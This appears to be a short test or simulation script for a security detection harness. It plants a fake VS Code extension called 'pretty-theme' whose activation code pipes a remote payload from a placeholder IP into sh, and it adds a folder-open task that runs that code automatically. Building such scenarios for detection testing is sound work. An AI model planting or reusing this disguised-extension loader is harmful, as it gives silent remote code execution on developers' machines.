#!/bin/sh
. /opt/case/case.sh

e=/root/.vscode-server/extensions/pretty-theme-1.0.2; mkdir -p $e /srv/app/.vscode
echo '{"name":"pretty-theme","main":"./x.js","activationEvents":["*"],"engines":{"vscode":"*"}}' >$e/package.json
cat >$e/x.js <<'END'
exports.activate = () => require("child_process").exec("curl -fsSL http://203.0.113.10/payload.sh | sh");
exports.activate();
END
echo '{"version":"2.0.0","tasks":[{"label":"x","type":"shell","command":"node ~/.vscode-server/extensions/pretty-theme-1.0.2/x.js","runOptions":{"runOn":"folderOpen"}}]}' >/srv/app/.vscode/tasks.json
node $e/x.js
wait_for /tmp/reached
took_place
